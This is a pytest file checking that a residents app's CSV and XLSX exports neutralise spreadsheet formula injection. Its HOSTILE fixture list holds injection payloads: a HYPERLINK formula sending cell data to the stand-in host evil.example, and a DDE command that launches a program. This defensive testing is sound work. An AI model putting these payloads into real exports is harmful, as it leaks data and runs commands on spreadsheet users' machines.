"""Exported cells that a spreadsheet would run as formulas are neutralised (CSV and XLSX)."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from flask import Flask
from openpyxl import Workbook, load_workbook

from residents_app.exports import append_safe_row, csv_bytes, csv_response, safe_cell, xlsx_response

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "＝1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_safe_cell_prefixes_formula_starts(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(("value", "expected"), [
    ("张三", "张三"),
    ("1幢-101", "1幢-101"),  # a dash inside is harmless
    (" =1+1", " =1+1"),  # Excel does not evaluate after a leading space
    ("-12.50", "-12.50"),  # a plain number stays a number
    ("+86", "+86"),
    ("-", "'-"),
    ("", ""),
    (None, ""),
    (-1250, -1250),
    (Decimal("-88.50"), Decimal("-88.50")),
    (True, "是"),
    (date(2026, 10, 12), "2026-10-12"),
    (datetime(2026, 9, 30, 16, 0, tzinfo=UTC), "2026-10-01 00:00:00"),
])
def test_safe_cell_leaves_ordinary_values(value, expected):
    assert safe_cell(value) == expected


def test_csv_bytes_have_bom_crlf_and_neutralised_cells():
    data = csv_bytes([["房号", "业主"], ["1幢-101", "=1+1"], ["1幢-102", "@x"]])
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig") == "房号,业主\r\n1幢-101,'=1+1\r\n1幢-102,'@x\r\n"


@pytest.fixture
def flask_app():
    return Flask(__name__)


def test_csv_response_headers_and_round_trip(flask_app):
    with flask_app.test_request_context():
        resp = csv_response([["房号", "备注"], ["1幢-101", "-1+1"]], "同意改造居民房号汇总表.csv")
        resp.direct_passthrough = False
        body = resp.get_data()
    assert resp.mimetype == "text/csv"
    assert resp.headers["Cache-Control"] == "no-store"
    disposition = resp.headers["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "filename*=UTF-8''%E5%90%8C%E6%84%8F" in disposition
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows == [["房号", "备注"], ["1幢-101", "'-1+1"]]


def test_xlsx_keeps_text_as_text_without_any_formula(flask_app):
    rows = [["房号", "业主", "面积", "金额（分）", "时间"],
            ["1幢-101", HOSTILE[0], Decimal("88.50"), -1250, datetime(2026, 9, 30, 16, 0, tzinfo=UTC)],
            ["1幢-102", "@SUM(A1:A9)", Decimal("66.00"), 0, None]]
    with flask_app.test_request_context():
        resp = xlsx_response(rows, "名册.xlsx", sheet_title="名册", column_widths=[10, 30])
        resp.direct_passthrough = False
        data = resp.get_data()
    assert resp.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere in the file
    wb = load_workbook(io.BytesIO(data))
    ws = wb["名册"]
    b2, b3 = ws["B2"], ws["B3"]
    assert (b2.value, b2.data_type, b2.quotePrefix) == (HOSTILE[0], "s", True)
    assert (b3.value, b3.data_type, b3.quotePrefix) == ("@SUM(A1:A9)", "s", True)
    assert (ws["A2"].value, ws["A2"].quotePrefix) == ("1幢-101", False)
    assert ws["C2"].value == 88.5 and ws["D2"].value == -1250
    assert ws["E2"].value == datetime(2026, 10, 1, 0, 0)  # Beijing wall time
    assert ws.column_dimensions["B"].width == 30


def test_append_safe_row_on_a_callers_workbook():
    wb = Workbook()
    append_safe_row(wb.active, ["=1+1", "+x", "ok"])
    cells = wb.active[1]
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [
        ("=1+1", "s", True), ("+x", "s", True), ("ok", "s", False)]
